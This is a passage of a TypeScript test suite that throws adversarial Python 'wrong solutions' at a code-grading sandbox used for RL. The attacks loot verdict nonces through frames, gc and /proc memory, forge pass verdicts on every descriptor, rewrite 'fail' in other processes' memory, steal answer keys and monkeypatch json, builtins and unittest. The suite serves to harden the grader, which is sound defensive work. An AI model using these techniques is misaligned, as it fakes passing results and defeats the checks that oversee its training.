// Attack suite for the code executor: wrong solutions that try to get `passed` by any route, and jobs that try to change other jobs' verdicts.
//
// Candidate code is an adversary (RL optimises it for `passed`), so every attack below is a WRONG solution: it would
// fail honestly, and the assertion is that it still does not pass (or gets exactly the official verdict where
// ../shared/design/execution.md defines one). After each attack the same executor must still judge honest code
// correctly: a right solution passes and a wrong one fails, on the worker(s) the attack used. Poisoning attacks, which
// aim at later jobs, run on an executor of their own (workers: 1), so the next job surely lands on the same worker.
//
// Targets are real tasks loaded by the dataset loaders (HumanEval/0 and /2 `check`, Mbpp/11 `asserts`, HumanEval+/0,
// HumanEval+/2 and MBPP+/11 `evalplus`, built with jobFor) and one hand-written BigCodeBench-style `unittest` job.
//
// Hygiene: attacks that touch other processes only touch processes whose command line carries this run's marker module
// (the attack executors preload it), and the afterAll hook removes what the attacks left on this machine (files named
// or filled with the run marker, processes named after it), so nothing outside this file's executors is disturbed.
import { randomBytes } from 'node:crypto';
import { spawnSync } from 'node:child_process';
import { existsSync, lstatSync, readdirSync, readFileSync, rmdirSync, rmSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Executor } from '../pipeline/sandbox/executor.ts';
import type { ExecJob, ExecResult } from '../pipeline/sandbox/job.ts';
import { findBwrap } from '../pipeline/sandbox/bwrap.ts';
import { loadBenchmark } from '../datasets/registry.ts';
import { jobFor, type Task } from '../datasets/task.ts';

/** This run's marker: names files and processes the attacks leave, so the cleanup below finds exactly those. */
const MARK = `fa${randomBytes(4).toString('hex')}`;
/** A harmless stdlib module the attack executors preload: it shows in their workers' command lines (see Hygiene). */
const MARK_MODULE = 'colorsys';
/** SysV shared-memory key an attack leaves behind. */
const SHM_KEY = 0x46520000 + (randomBytes(2).readUInt16BE(0) & 0x7fff);

const MODES = ['bwrap', 'process'] as const;
type Mode = (typeof MODES)[number];

// ------------------------------------------------------------------------------------------------------------------
// Targets: a job kind, its entry point, an honest right and an honest wrong program.

type Kind = 'he' | 'he2' | 'mbpp' | 'hep' | 'hep2' | 'mbpp+' | 'bcb';
/** The five main targets: one per harness, plus MBPP+ for the second EvalPlus dataset. */
const ALL: Kind[] = ['he', 'mbpp', 'hep', 'mbpp+', 'bcb'];
/** Targets whose tests today run in the candidate's process and after the redesign in the clean comparer. */
const COMPARED: Kind[] = ['he', 'mbpp', 'hep', 'mbpp+'];

interface Target {
  kind: Kind;
  entry: string;
  /** Parameter list of the entry point, as Python source. */
  params: string;
  /** A wrong answer as a Python expression over the parameters. */
  wrongExpr: string;
  right: string;
  wrong: string;
  job(program: string, over?: Partial<ExecJob>): ExecJob;
}

const TITLE: Record<Kind, string> = {
  he: 'HumanEval/0 check',
  he2: 'HumanEval/2 check',
  mbpp: 'Mbpp/11 asserts',
  hep: 'HumanEval+/0 evalplus',
  hep2: 'HumanEval+/2 evalplus',
  'mbpp+': 'MBPP+/11 evalplus',
  bcb: 'BigCodeBench-style unittest',
};

/** A BigCodeBench-style task written for this file: TestCases with three methods, harness unittest. */
const BCB_TEST = String.raw`import unittest


class TestCases(unittest.TestCase):
    def test_simple(self):
        self.assertEqual(task_func("a b a"), {"a": 2, "b": 1})

    def test_case(self):
        self.assertEqual(task_func("A a"), {"a": 2})

    def test_empty(self):
        self.assertTrue(task_func("") == {})
`;
const BCB_RIGHT = String.raw`import collections


def task_func(text):
    """Counts the words of text, case-insensitively."""
    return dict(collections.Counter(text.lower().split()))
`;

const targets = {} as Record<Kind, Target>;

function taskById(tasks: Task[], id: string): Task {
  const t = tasks.find((x) => x.id === id);
  if (t === undefined) throw new Error(`task ${id} is missing from the loaded benchmark`);
  return t;
}

function fromTask(kind: Kind, task: Task, params: string, wrongExpr: string): Target {
  return {
    kind,
    entry: task.entryPoint,
    params,
    wrongExpr,
    right: task.reference,
    wrong: `def ${task.entryPoint}(${params}):\n    return ${wrongExpr}\n`,
    job: (program, over = {}) => ({ ...jobFor(task, program, 'hidden'), ...over }),
  };
}

async function loadTargets(): Promise<void> {
  const he = await loadBenchmark('humaneval');
  const hep = await loadBenchmark('humaneval-plus');
  const mbpp = await loadBenchmark('mbpp');
  const mbppPlus = await loadBenchmark('mbpp-plus');
  targets.he = fromTask('he', taskById(he, 'HumanEval/0'), 'numbers, threshold', 'False');
  targets.he2 = fromTask('he2', taskById(he, 'HumanEval/2'), 'number', '0.5');
  targets.mbpp = fromTask('mbpp', taskById(mbpp, 'Mbpp/11'), 's, ch', 's');
  targets.hep = fromTask('hep', taskById(hep, 'HumanEval/0'), 'numbers, threshold', 'False');
  targets.hep2 = fromTask('hep2', taskById(hep, 'HumanEval/2'), 'number', '0.5');
  // Passes the base inputs (first and last occurrence happen to be all of them there) and fails plus: an honest near-miss.
  targets['mbpp+'] = fromTask('mbpp+', taskById(mbppPlus, 'Mbpp/11'), 's, ch', 's.replace(ch, "")');
  targets.bcb = {
    kind: 'bcb',
    entry: 'task_func',
    params: 'text',
    wrongExpr: '{}',
    right: BCB_RIGHT,
    wrong: 'def task_func(text):\n    return {}\n',
    job: (program, over = {}) => ({ harness: 'unittest', program, test: BCB_TEST, entryPoint: 'task_func', timeoutS: 20, ...over }),
  };
}

// ------------------------------------------------------------------------------------------------------------------
// Python shared by several attacks: looting frames/objects for nonces and pass bytes, forging verdicts, answer keys.

const PY_LIB = String.raw`
# ---- attack library: looting, forging, answer keys ----
import posix as _fp, re as _fre, sys as _fsys, ast as _fa
_FR_HEX = _fre.compile(r"(?<![0-9a-f])[0-9a-f]{32}(?![0-9a-f])")
_FR_HEXB = _fre.compile(rb"(?<![0-9a-f])[0-9a-f]{32}(?![0-9a-f])")


def _fr_read(path, limit=1 << 22):
    """A file's bytes through posix (the guards null open and parts of os)."""
    fd = _fp.open(path, _fp.O_RDONLY)
    try:
        out = b""
        while len(out) < limit:
            chunk = _fp.read(fd, 1 << 16)
            if not chunk:
                break
            out += chunk
        return out
    finally:
        _fp.close(fd)


def _fr_forge(nonces=(), blobs=(), exit=True):
    """Writes a pass verdict for every nonce found (and any pre-built pass bytes) to every descriptor 0-255."""
    parts = [bytes(b) for b in list(blobs)[:50]]
    parts += [('\n{"status": "pass", "result": "passed", "nonce": "%s"}\n' % n).encode() for n in list(nonces)[:400]]
    parts.append(b'\n{"status": "pass", "result": "passed", "passed": true}\n')
    data = b"".join(parts)
    for fd in range(256):
        try:
            _fp.write(fd, data)
        except OSError:
            pass
    if exit:
        _fp._exit(0)


def _fr_frames(f):
    """A frame and every caller above it."""
    while f is not None:
        yield f
        f = f.f_back


def _fr_scopes(frames):
    """The locals and globals of frames, as roots to search."""
    out = []
    for f in frames:
        out += [f.f_locals, f.f_globals]
    return out


def _fr_reach(roots, depth=4, limit=200000):
    """Every object reachable from roots through container items and attributes, breadth first (bounded)."""
    import collections

    seen, stack, n = set(), collections.deque((r, 0) for r in roots), 0
    while stack and n < limit:
        v, d = stack.popleft()
        if id(v) in seen:
            continue
        seen.add(id(v))
        n += 1
        yield v
        if d >= depth or isinstance(v, (str, bytes, bytearray, int, float, complex, type(None))):
            continue
        try:
            if isinstance(v, dict):
                kids = list(v.values())
            elif isinstance(v, (list, tuple, set, frozenset)):
                kids = list(v)
            elif hasattr(v, "f_locals") and hasattr(v, "f_back"):  # a frame
                kids = [v.f_locals, v.f_globals, v.f_back]
            elif hasattr(v, "__code__") and hasattr(v, "__globals__"):  # a function: its closure, defaults and module
                kids = [c.cell_contents for c in (v.__closure__ or ()) if c.cell_contents is not None] + list(v.__defaults__ or ()) + [v.__globals__]
            elif hasattr(v, "gi_frame") or hasattr(v, "cr_frame"):  # a generator or coroutine
                kids = [getattr(v, "gi_frame", None) or getattr(v, "cr_frame", None)]
            else:
                names = getattr(type(v), "__slots__", ())
                names = [names] if isinstance(names, str) else list(names)
                kids = [getattr(v, k) for k in names if hasattr(v, k)]
                dd = getattr(v, "__dict__", None)
                if isinstance(dd, dict):
                    kids += list(dd.values())
        except Exception:
            continue
        stack.extend((k, d + 1) for k in kids[:5000])


def _fr_loot(roots, depth=4):
    """(nonce-looking strings, pass-looking bytes) among what roots reach."""
    nonces, blobs = set(), set()
    for v in _fr_reach(roots, depth):
        if isinstance(v, str) and len(v) < 1000000:
            nonces.update(_FR_HEX.findall(v))
        elif isinstance(v, (bytes, bytearray)) and len(v) < 1000000:
            nonces.update(m.decode() for m in _FR_HEXB.findall(bytes(v)))
            if b'"pass"' in v:
                blobs.add(bytes(v))
    return nonces, blobs


def _fr_parse(src, entry, table):
    """Adds the entry(<literals>) == <literal> style expectations (and inputs/results pairs) of a test source to table."""
    try:
        tree = _fa.parse(src)
    except Exception:
        return
    named = {}
    for node in _fa.walk(tree):
        call = exp = None
        if isinstance(node, _fa.Assign) and len(node.targets) == 1 and isinstance(node.targets[0], _fa.Name) and node.targets[0].id in ("inputs", "results"):
            try:
                named[node.targets[0].id] = _fa.literal_eval(node.value)
            except Exception:
                pass
            continue
        if isinstance(node, _fa.Compare) and len(node.ops) == 1 and isinstance(node.ops[0], (_fa.Eq, _fa.Is)):
            call, exp = node.left, node.comparators[0]
        elif isinstance(node, _fa.Call) and isinstance(node.func, _fa.Attribute) and node.func.attr.startswith("assert") and len(node.args) >= 2:
            call, exp = node.args[0], node.args[1]
        elif isinstance(node, _fa.BinOp) and isinstance(node.op, _fa.Sub):
            call, exp = node.left, node.right
        if isinstance(call, _fa.Call) and isinstance(call.func, _fa.Name) and call.func.id in (entry, "candidate"):
            try:
                table[repr(tuple(_fa.literal_eval(a) for a in call.args))] = _fa.literal_eval(exp)
            except Exception:
                pass
    for args, exp in zip(named.get("inputs", ()), named.get("results", ())):
        table.setdefault(repr(tuple(args)), exp)


def _fr_key(roots, entry, depth=4):
    """(reference functions, {repr(args): expected}) from test sources and reference programs that roots reach. A job's
    "reference" field comes first; a program that contradicts the parsed expectations (another sample) is dropped."""
    refs, table, parsed = [], {}, 0
    for v in _fr_reach(roots, depth):
        if isinstance(v, dict) and isinstance(v.get("reference"), str):
            refs.insert(0, v["reference"])
        if not isinstance(v, str) or len(v) < 20 or "fr-attack" in v:
            continue
        if ("def %s(" % entry) in v:
            refs.insert(0, v) if v.startswith("# reference") else refs.append(v)
        if parsed < 2000 and ("assert" in v or "inputs" in v):
            parsed += 1
            _fr_parse(v, entry, table)
    fns = []
    for src in refs[:50]:
        ns = {}
        try:
            exec(src, ns)
            fn = ns[entry]
            if all(repr(fn(*_fa.literal_eval(k))) == repr(e) for k, e in list(table.items())[:20]):
                fns.append(fn)
        except BaseException:
            pass
    return fns, table


def _fr_answer(args, fns, table, frames=()):
    """The expected output for args: a running test's exp, a stolen reference, or a parsed table; else KeyError."""
    for f in frames:
        loc = f.f_locals
        try:
            if "exp" in loc and ("inp" not in loc or list(loc["inp"]) == list(args)):
                return loc["exp"]
            for scope in (loc, f.f_globals):
                ins, res = scope.get("inputs"), scope.get("results")
                if isinstance(ins, list) and isinstance(res, list):
                    for i, a in enumerate(ins):
                        if list(a) == list(args):
                            return res[i]
        except Exception:
            pass
    if repr(tuple(args)) in table:
        return table[repr(tuple(args))]
    for fn in fns:
        try:
            return fn(*args)
        except BaseException:
            pass
    raise KeyError(repr(tuple(args)))


def _fr_mem_matches(mem, maps, rx, limit=400):
    """Matches of rx (group 1 if it has one) in the writable mappings listed in maps, read from the mem fd in 8 MB pieces."""
    found = []
    for line in maps.splitlines():
        f = line.split()
        if len(f) < 2 or not f[1].startswith(b"rw"):
            continue
        lo, hi = (int(x, 16) for x in f[0].split(b"-"))
        for a in range(lo, hi, 8 << 20):
            try:
                data = _fp.pread(mem, min((8 << 20) + 64, hi - a), a)
            except OSError:
                break
            for m in rx.finditer(data):
                v = m.group(1 if rx.groups else 0).decode()
                if v not in found:
                    found.append(v)
                    if len(found) >= limit:
                        return found
    return found


def _fr_mem_texts(pid, needles, limit=300):
    """Texts around each needle in the writable memory of pid: the NUL-delimited run (Python str data ends in NUL), and
    the string values of any JSON object starting in it (a job line as the parent read it)."""
    import json

    out = []
    try:
        mem = _fp.open("/proc/%s/mem" % pid, _fp.O_RDONLY)
        maps = _fr_read("/proc/%s/maps" % pid, 1 << 24)
    except OSError:
        return out
    for line in maps.splitlines():
        f = line.split()
        if len(f) < 2 or not f[1].startswith(b"rw"):
            continue
        lo, hi = (int(x, 16) for x in f[0].split(b"-"))
        for a in range(lo, hi, 8 << 20):
            try:
                data = _fp.pread(mem, min((8 << 20) + (1 << 20), hi - a), a)
            except OSError:
                break
            for needle in needles:
                i = data.find(needle)
                while i >= 0 and len(out) < limit:
                    start, end = data.rfind(b"\x00", 0, i) + 1, data.find(b"\x00", i)
                    end = len(data) if end < 0 else end
                    text = data[start:end].decode("utf-8", "replace")
                    out.append(text)
                    j = text.find('{"')
                    if j >= 0:
                        try:
                            obj = json.JSONDecoder().raw_decode(text[j:])[0]
                            out += [v for v in obj.values() if isinstance(v, str)]
                            if isinstance(obj.get("reference"), str):
                                out.append("# reference\n" + obj["reference"])
                            out += [t.get("code", "") for t in obj.get("tests") or [] if isinstance(t, dict)]
                        except Exception:
                            pass
                    i = data.find(needle, end)
    _fp.close(mem)
    return out


def _fr_marked_pids():
    """Processes of this test's attack executors (their command line names the marker module), the caller excluded."""
    out = []
    for e in _fp.listdir("/proc"):
        if e.isdigit() and int(e) != _fp.getpid():
            try:
                if b"${MARK_MODULE}" in _fr_read("/proc/%s/cmdline" % e):
                    out.append(int(e))
            except OSError:
                pass
    return out


def _fr_fail_addr():
    """Address of the interned "fail" string's characters: the same in the warm parent and every child forked from it."""
    s = _fsys.intern("fail")
    return id(s) + _fsys.getsizeof(s) - len(s) - 1


def _fr_poke_mem(pid, addr, data):
    """Writes data at addr in pid's memory through /proc/<pid>/mem; False when that is refused."""
    try:
        fd = _fp.open("/proc/%d/mem" % pid, _fp.O_RDWR)
        try:
            return _fp.pwrite(fd, data, addr) == len(data)
        finally:
            _fp.close(fd)
    except OSError:
        return False


_FR_FAIL_OBJ = _fre.compile(rb"\x04\x00{7}[\s\S]{16}(?:\x00{8})?fail\x00")


def _fr_rewrite_fail(pid):
    """Rewrites every str object "fail" (length-4 compact ASCII header, then the characters) in the writable memory of pid
    to "pass", wherever it lives: no shared address layout needed. Returns how many it rewrote."""
    try:
        mem = _fp.open("/proc/%d/mem" % pid, _fp.O_RDWR)
        maps = _fr_read("/proc/%d/maps" % pid, 1 << 24)
    except OSError:
        return 0
    n = 0
    try:
        for line in maps.splitlines():
            f = line.split()
            if len(f) < 2 or not f[1].startswith(b"rw"):
                continue
            lo, hi = (int(x, 16) for x in f[0].split(b"-"))
            for a in range(lo, hi, 8 << 20):
                try:
                    data = _fp.pread(mem, min((8 << 20) + 64, hi - a), a)
                except OSError:
                    break
                for m in _FR_FAIL_OBJ.finditer(data):
                    try:
                        n += _fp.pwrite(mem, b"pass", a + m.end() - 5) == 4
                    except OSError:
                        pass
    finally:
        _fp.close(mem)
    return n


def _fr_answer_lines(first=1, last=300):
    """Forged worker answers for job ids first..last, as the executor's host reads them."""
    return b"".join(
        b'{"id": %d, "verdict": {"status": "pass", "result": "passed"}, "killed": false, "output": "", "outputBytes": 0, "durationMs": 1, "passed": true}\n' % i
        for i in range(first, last + 1)
    )
# ---- end of attack library ----
`;

/** Python: `def <entry>(<params>):` with `import sys` before it. */
function def(t: Target): string {
  return `import sys\n\n\ndef ${t.entry}(${t.params}):\n`;
}
/** Python: `_honest(args)` runs the honest right solution (kept in its own namespace); `_calls` counts calls. */
function honestHelper(t: Target): string {
  return `_ref_ns = {}\nexec(${JSON.stringify(t.right)}, _ref_ns)\n_calls = []\n\n\ndef _honest(a):\n    return _ref_ns["${t.entry}"](*a)\n`;
}
/** Python: an entry point that answers from sources found in a process's memory (`pid` is a Python expression). */
function memoryKeyCode(t: Target, pid: string): string {
  // The scan runs at module level: inside the call it could outlast EvalPlus's per-call limit.
  return `_texts = _fr_mem_texts(${pid}, [b"def ${t.entry}(", b"assert ", b"candidate(", b'"reference"', b'"test"'])\n_KEY = _fr_key([_texts], "${t.entry}")\n\n\n${def(t)}    try:\n        return _fr_answer(${args(t)}, *_KEY)\n    except KeyError:\n        return ${t.wrongExpr}\n`;
}
/** Python: the tuple of the entry point's arguments. */
function args(t: Target): string {
  return `(${t.params},)`;
}

// ------------------------------------------------------------------------------------------------------------------
// The attacks. Each is one small Python program (a wrong solution) with a comment saying what it tries.

interface Attack {
  name: string;
  on: Kind[];
  /** Prepend PY_LIB. */
  lib?: boolean;
  code: (t: Target) => string;
  /** Expectations beyond `passed === false` (official verdicts where execution.md defines them). */
  check?: (r: ExecResult, t: Target) => void;
  over?: Partial<ExecJob>;
  /** Vitest timeout for the test (ms). */
  ms?: number;
  /**
   * Set on attacks that no harness running inside the candidate's process can stop (BigCodeBench suites must run
   * there; README "Verdicts the judged code cannot forge"): the reason. For the `bcb` target such an attack's own
   * verdict is not asserted, only that every job after it is judged honestly; every other target must still refuse it.
   */
  inProcessLimit?: string;
}

function program(a: Attack, t: Target): string {
  return `# fr-attack: ${a.name}\n${a.lib === true ? PY_LIB : ''}\n${a.code(t)}`;
}

function officialTimeout(r: ExecResult, t: Target): void {
  // human-eval: a child that dies without reporting is "timed out"; EvalPlus and BigCodeBench: no status = "timeout".
  if (t.kind === 'he' || t.kind === 'he2') expect(r.result).toBe('timed out');
  if (t.kind !== 'mbpp') expect(r.status).toBe('timeout');
}

function officialFail(text?: string): (r: ExecResult, t: Target) => void {
  return (r, t) => {
    expect(r.status).toBe('fail');
    if (text !== undefined && (t.kind === 'he' || t.kind === 'he2')) expect(r.result).toBe(text);
  };
}

// 1. Introspection: find the verdict nonce, pre-built pass bytes or expected outputs in the harness, then forge or answer.
const INTROSPECTION: Attack[] = [
  {
    name: 'walks sys._getframe() up through the harness, loots nonces and pass bytes, forges a pass on fds 0-255 and exits',
    on: ALL,
    lib: true,
    code: (t) => `${def(t)}    _fr_forge(*_fr_loot(_fr_scopes(_fr_frames(sys._getframe()))))\n`,
  },
  {
    name: 'walks inspect.stack() (frame records, locals and globals) for the nonce, forges and exits',
    on: ALL,
    lib: true,
    code: (t) => `import inspect\n${def(t)}    _fr_forge(*_fr_loot(_fr_scopes(r.frame for r in inspect.stack())))\n`,
  },
  {
    name: "climbs a caught exception's __traceback__.tb_frame.f_back chain for the nonce, forges and exits",
    on: ALL,
    lib: true,
    code: (t) => `${def(t)}    try:\n        raise ValueError\n    except ValueError as e:\n        top = e.__traceback__.tb_frame\n    _fr_forge(*_fr_loot(_fr_scopes(_fr_frames(top))))\n`,
  },
  {
    name: "reaches the callers through a running generator's gi_frame.f_back (no sys._getframe), forges and exits",
    on: ALL,
    lib: true,
    code: (t) => `def _me():\n    yield g.gi_frame.f_back\n\n\n${def(t)}    global g\n    g = _me()\n    _fr_forge(*_fr_loot(_fr_scopes(_fr_frames(next(g)))))\n`,
  },
  {
    name: "reaches the callers through a coroutine's cr_frame.f_back, forges and exits",
    on: ALL,
    lib: true,
    code: (t) =>
      `async def _co():\n    return c.cr_frame.f_back\n\n\n${def(t)}    global c\n    c = _co()\n    try:\n        c.send(None)\n    except StopIteration as e:\n        top = e.value\n    _fr_forge(*_fr_loot(_fr_scopes(_fr_frames(top))))\n`,
  },
  {
    name: 'scans gc.get_objects() (job dicts, the plan object, verdict buffers) for nonces and pass bytes, forges and exits',
    on: ALL,
    lib: true,
    code: (t) => `import gc\n${def(t)}    _fr_forge(*_fr_loot(gc.get_objects(), depth=2))\n`,
  },
  {
    name: 'follows gc.get_referrers from its own arguments and function up to harness objects, forges and exits',
    on: ALL,
    lib: true,
    code: (t) =>
      `import gc\n${def(t)}    roots, layer = [], [${t.params}, ${t.entry}]\n    for _ in range(3):\n        layer = [r for x in layer for r in gc.get_referrers(x)][:3000]\n        roots += layer\n    _fr_forge(*_fr_loot(roots, depth=2))\n`,
  },
  {
    name: 'hooks sys.settrace at module level: the tracer sees the harness frames that run next, loots them, forges and exits',
    on: ALL,
    lib: true,
    code: (t) => `import sys\n\n\ndef _tracer(frame, event, arg):\n    _fr_forge(*_fr_loot(_fr_scopes(_fr_frames(frame))))\n\n\nsys.settrace(_tracer)\n\n\n${def(t)}    return ${t.wrongExpr}\n`,
  },
  {
    name: 'hooks sys.setprofile at module level (sees C calls too), loots the harness frames, forges and exits',
    on: ALL,
    lib: true,
    code: (t) => `import sys\n\n\ndef _prof(frame, event, arg):\n    _fr_forge(*_fr_loot(_fr_scopes(_fr_frames(frame))))\n\n\nsys.setprofile(_prof)\n\n\n${def(t)}    return ${t.wrongExpr}\n`,
  },
  {
    name: 'reads its own memory through /proc/self/mem (opened as "mem" relative to a /proc/self dir fd) for the nonce, forges and exits',
    on: ALL,
    lib: true,
    code: (t) => String.raw`def _scan_self():
    d = _fp.open("/proc/self", _fp.O_RDONLY)
    mem = _fp.open("mem", _fp.O_RDONLY, dir_fd=d)
    maps = _fr_read("/proc/self/maps", 1 << 24)
    # Nonces written next to the word nonce first, then any 32-hex string.
    return _fr_mem_matches(mem, maps, _fre.compile(rb'nonce": "([0-9a-f]{32})"')) + _fr_mem_matches(mem, maps, _FR_HEXB)


# At module level: a scan inside the call could outlast EvalPlus's per-call limit.
_fr_forge(_scan_self())


${def(t)}    return ${t.wrongExpr}
`,
  },
  {
    name: "gets the harness frames from a signal handler's frame argument (signal.signal and frame.f_back raise no audit event), loots, forges and exits",
    inProcessLimit: 'a signal handler receives the interrupted frame, and signal.signal raises no audit event',
    on: ALL,
    lib: true,
    code: (t) =>
      `import signal\n\n\ndef _h(signum, frame):\n    _fr_forge(*_fr_loot(_fr_scopes(_fr_frames(frame))))\n\n\nsignal.signal(signal.SIGUSR1, _h)\n\n\n${def(t)}    signal.raise_signal(signal.SIGUSR1)\n    return ${t.wrongExpr}\n`,
  },
  {
    name: 'a Popen subclass whose pid property waits until introspection works again (the harness reads .pid of tracked processes after the suite), then loots the frames, forges and exits',
    on: ['bcb'],
    lib: true,
    code: (t) => String.raw`import subprocess


class _P(subprocess.Popen):
    @property
    def pid(self):
        try:
            f = sys._getframe()  # refused while an audit hook guards the suite
        except Exception:
            return self.__dict__.get("_pid")
        _fr_forge(*_fr_loot(_fr_scopes(_fr_frames(f))))

    @pid.setter
    def pid(self, v):
        self.__dict__["_pid"] = v


_keep = _P(["true"])


${def(t)}    return ${t.wrongExpr}
`,
  },
  {
    name: "replaces its figure's manager.destroy (an instance attribute): the harness closes all figures after the suite, where introspection is allowed again, and the hook rewrites the recorded outcomes to pass",
    on: ['bcb'],
    lib: true,
    code: (t) => String.raw`import matplotlib.pyplot as plt


def _rewrite_records():
    try:
        top = sys._getframe()  # refused while an audit hook guards the suite, allowed once the harness disarms it
    except Exception:
        return
    for f in _fr_frames(top):
        for v in list(f.f_locals.values()):
            try:
                if isinstance(v, dict):
                    for x in v.values():
                        if isinstance(x, list) and x and all(isinstance(y, tuple) for y in x):
                            x[:] = [("pass", None)]  # {test name: [(outcome, text)]}: one pass each
                elif hasattr(v, "failures") and hasattr(v, "errors"):
                    del v.failures[:]
                    del v.errors[:]
            except Exception:
                pass


_fig = plt.figure()
_fig.canvas.manager.destroy = lambda *a, **k: _rewrite_records()


${def(t)}    return ${t.wrongExpr}
`,
  },
  {
    name: 'answer key from the frames: reads the running test\'s exp, inputs/results lists, the test source or the reference program and returns the expected value',
    on: ALL,
    lib: true,
    code: (t) =>
      `_KEY = []\n\n\n${def(t)}    frames = list(_fr_frames(sys._getframe(1)))\n    try:\n        return _fr_answer(${args(t)}, (), {}, frames)\n    except KeyError:\n        pass\n    if not _KEY:\n        _KEY.append(_fr_key(_fr_scopes(frames), "${t.entry}"))\n    try:\n        return _fr_answer(${args(t)}, *_KEY[0])\n    except KeyError:\n        return ${t.wrongExpr}\n`,
  },
  {
    name: 'answer key from gc.get_objects(): parses any test source or execs any reference program it finds, returns the expected value',
    on: ALL,
    lib: true,
    code: (t) => `import gc\n_KEY = []\n\n\n${def(t)}    if not _KEY:\n        _KEY.append(_fr_key(gc.get_objects(), "${t.entry}", depth=2))\n    try:\n        return _fr_answer(${args(t)}, *_KEY[0])\n    except KeyError:\n        return ${t.wrongExpr}\n`,
  },
  {
    name: 'answer key from its own memory (/proc/self/mem): test sources, job lines and reference programs left there by the warm parent before the fork',
    on: ALL,
    lib: true,
    code: (t) => memoryKeyCode(t, '"self"'),
  },
  {
    name: "reads the expected value from the calling assert's code constants (sys._getframe(1).f_code.co_consts)",
    on: ['mbpp'],
    code: (t) => `${def(t)}    for k in sys._getframe(1).f_code.co_consts:\n        if isinstance(k, str) and k not in (s, ch):\n            return k\n    return ${t.wrongExpr}\n`,
  },
  {
    name: "turns the calling TestCase's assert methods into no-ops through the caller's frame (instance attributes)",
    on: ['bcb'],
    code: (t) =>
      `${def(t)}    for f in [sys._getframe(i) for i in range(1, 4)]:\n        s = f.f_locals.get("self")\n        if s is not None and hasattr(s, "assertEqual"):\n            for name in dir(s):\n                if name.startswith("assert") or name == "fail":\n                    setattr(s, name, lambda *a, **k: None)\n    return ${t.wrongExpr}\n`,
  },
  {
    name: 'finds the TestResult in the frames above and makes it drop failures and errors (instance attributes, lists cleared)',
    on: ['bcb'],
    lib: true,
    code: (t) =>
      `${def(t)}    for f in _fr_frames(sys._getframe(1)):\n        for v in list(f.f_locals.values()):\n            if hasattr(v, "failures") and hasattr(v, "errors") and hasattr(v, "addFailure"):\n                v.addFailure = v.addError = lambda *a, **k: None\n                del v.failures[:]\n                del v.errors[:]\n    return ${t.wrongExpr}\n`,
  },
  {
    name: 'settrace on the unittest machinery: empties result.failures/errors each time addFailure/addError returns',
    on: ['bcb'],
    code: (t) =>
      `def _t(frame, event, arg):\n    if frame.f_code.co_name in ("addFailure", "addError"):\n        if event == "return":\n            res = frame.f_locals.get("self")\n            del res.failures[:]\n            del res.errors[:]\n        return _t\n    return None\n\n\nimport sys\nsys.settrace(_t)\n\n\n${def(t)}    return ${t.wrongExpr}\n`,
  },
];

// 2. Monkeypatching at module level: rewrite the failing verdict on its way out, or drop the failures.
const PY_PASSIFY = String.raw`
def _passify(o):
    """A verdict-looking dict turned into a pass."""
    if isinstance(o, dict) and ("status" in o or "nonce" in o or "result" in o):
        o = dict(o, status="pass", result="passed", passed=True)
        for k in ("tests", "details", "base", "plus"):
            o.pop(k, None)
    return o
`;

const LAX_TESTCASE = String.raw`
import unittest as _u


class _Lax(_u.TestCase):
    """A TestCase whose every assertion passes."""

    def _ok(self, *a, **k):
        return None

    assertEqual = assertEquals = assertTrue = assertFalse = assertIn = assertIsNone = assertAlmostEqual = _ok
    assertDictEqual = assertListEqual = assertCountEqual = assertRaises = assertIsInstance = fail = _ok
`;

const MONKEYPATCH: Attack[] = [
  {
    name: 'replaces json.dumps so any verdict-looking dict it serialises says pass',
    on: ALL,
    code: (t) => `import json\n${PY_PASSIFY}\n_dumps = json.dumps\njson.dumps = lambda o, *a, **k: _dumps(_passify(o), *a, **k)\n\n\n${def(t)}    return ${t.wrongExpr}\n`,
  },
  {
    name: 'patches json.JSONEncoder.encode/iterencode (class attributes) to rewrite verdicts',
    on: ALL,
    code: (t) =>
      `import json\n${PY_PASSIFY}\n_enc, _it = json.JSONEncoder.encode, json.JSONEncoder.iterencode\njson.JSONEncoder.encode = lambda self, o: _enc(self, _passify(o))\njson.JSONEncoder.iterencode = lambda self, o, *a, **k: _it(self, _passify(o), *a, **k)\n\n\n${def(t)}    return ${t.wrongExpr}\n`,
  },
  {
    name: 'disables json.encoder.c_make_encoder and swaps encode_basestring(_ascii) so "fail" serialises as "pass"',
    on: ALL,
    code: (t) =>
      `import json.encoder as je\n_a, _b = je.encode_basestring_ascii, je.encode_basestring\n_fix = lambda s: "pass" if s == "fail" else ("passed" if isinstance(s, str) and s.startswith("failed") else s)\nje.c_make_encoder = None\nje.encode_basestring_ascii = lambda s: _a(_fix(s))\nje.encode_basestring = lambda s: _b(_fix(s))\n\n\n${def(t)}    return ${t.wrongExpr}\n`,
  },
  {
    name: 'replaces os.write and posix.write to rewrite "fail" verdicts in flight',
    on: ALL,
    code: (t) =>
      `import os, posix\n_w = posix.write\n\n\ndef _write(fd, data):\n    data = bytes(data).replace(b'"status": "fail"', b'"status": "pass"').replace(b'"status":"fail"', b'"status":"pass"')\n    return _w(fd, data)\n\n\nos.write = posix.write = _write\n\n\n${def(t)}    return ${t.wrongExpr}\n`,
  },
  {
    name: 'replaces builtins.exec with a no-op, so test code the harness execs later never runs',
    on: ALL,
    code: (t) => `import builtins\nbuiltins.exec = lambda *a, **k: None\n\n\n${def(t)}    return ${t.wrongExpr}\n`,
  },
  {
    name: 'replaces builtins.__build_class__ so any class defined later (TestCases) gets no-op test methods',
    on: ALL,
    code: (t) =>
      `import builtins\n_bc = builtins.__build_class__\n\n\ndef _build(func, name, *bases, **kw):\n    cls = _bc(func, name, *bases, **kw)\n    for k in list(vars(cls)):\n        if k.startswith("test"):\n            setattr(cls, k, lambda self: None)\n    return cls\n\n\nbuiltins.__build_class__ = _build\n\n\n${def(t)}    return ${t.wrongExpr}\n`,
  },
  {
    name: 'rebinds builtins the judge may use after the program (len, isinstance, all, any, bool, str, repr, sum, min, max)',
    on: ALL,
    code: (t) =>
      `import builtins\n\n\n${def(t)}    return ${t.wrongExpr}\n\n\nbuiltins.all = builtins.any = builtins.bool = builtins.isinstance = builtins.issubclass = lambda *a, **k: True\nbuiltins.len = builtins.sum = builtins.min = builtins.max = lambda *a, **k: 0\nbuiltins.str = builtins.repr = lambda *a, **k: "passed"\n`,
  },
  {
    name: 'swaps the json module referenced by every loaded module (harness modules included) and sys.modules["json"] for a pass-forging one',
    on: ALL,
    code: (t) =>
